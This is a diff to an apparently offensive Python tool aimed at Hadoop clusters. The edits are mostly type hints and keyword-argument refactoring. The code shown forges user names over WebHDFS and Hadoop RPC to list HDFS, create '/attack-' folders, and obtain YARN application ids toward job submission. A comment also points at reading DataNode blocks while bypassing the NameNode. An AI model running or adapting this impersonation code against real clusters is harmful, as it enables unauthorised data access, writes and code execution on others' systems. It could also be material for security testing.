@@ -24,6 +24,7 @@ import struct
 import time
 from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
+from typing import Any
 from urllib.parse import urlsplit
 
 SCAN_SECONDS = 0.5
@@ -134,7 +135,9 @@ def webhdfs_write(address: str, user: str) -> str:
 
 def webhdfs_read(address: str, user: str) -> str:
     """List the root folder of HDFS."""
-    _, body, _ = need(ask(address, 9870, "GET", f"/webhdfs/v1/?op=LISTSTATUS&user.name={user}"), 200)
+    _, body, _ = need(
+        ask(address, 9870, "GET", f"/webhdfs/v1/?op=LISTSTATUS&user.name={user}"), 200
+    )
     return str([row["pathSuffix"] for row in json.loads(body)["FileStatuses"]["FileStatus"]])
 
 
@@ -199,9 +202,9 @@ def message(*fields: tuple[int, int | bytes | str]) -> bytes:
     return out
 
 
-def fields_of(raw: bytes) -> dict[int, int | bytes]:
+def fields_of(raw: bytes) -> dict[int, Any]:
     """Decode fields by number; of a repeated one the last is kept."""
-    out: dict[int, int | bytes] = {}
+    out: dict[int, Any] = {}
     at = 0
     while at < len(raw):
         key, at = read_varint(raw, at)
@@ -231,8 +234,8 @@ def delimited(*messages: bytes) -> bytes:
 
 
 def call(
-    address: str, port: int, user: str, protocol: str, method: str, request: bytes
-) -> dict[int, int | bytes]:
+    address: str, port: int, user: str, *, protocol: str, method: str, request: bytes
+) -> dict[int, Any]:
     """Call a method under a forged user name; return the fields of the result."""
     client = secrets.token_bytes(16)
 
@@ -267,16 +270,16 @@ def hdfs_rpc_write(address: str, user: str) -> str:
     """Make a folder in HDFS."""
     path = f"/attack-{secrets.token_hex(4)}"
     request = message((1, path), (2, message((1, 0o755))), (3, 1))
-    if call(address, 8020, user, HDFS, "mkdirs", request).get(1) != 1:
+    if call(address, 8020, user, protocol=HDFS, method="mkdirs", request=request).get(1) != 1:
         raise NothingGot("the folder was not made")
     return path
 
 
 def yarn_rpc_application(address: str, user: str) -> str:
     """Ask YARN for an application's id, which submitting begins with."""
-    got = call(address, 8032, user, YARN, "getNewApplication", b"")
-    identity = fields_of(bytes(got[1]))  # type: ignore[arg-type]
-    return f"application_{identity[2]}_{identity[1]:04}"  # type: ignore[str-bytes-safe]
+    got = call(address, 8032, user, protocol=YARN, method="getNewApplication", request=b"")
+    identity = fields_of(got[1])
+    return f"application_{identity[2]}_{identity[1]:04}"
 
 
 # ---- a block from a DataNode, past the NameNode (hadoop-hdfs-client, datatransfer.proto)
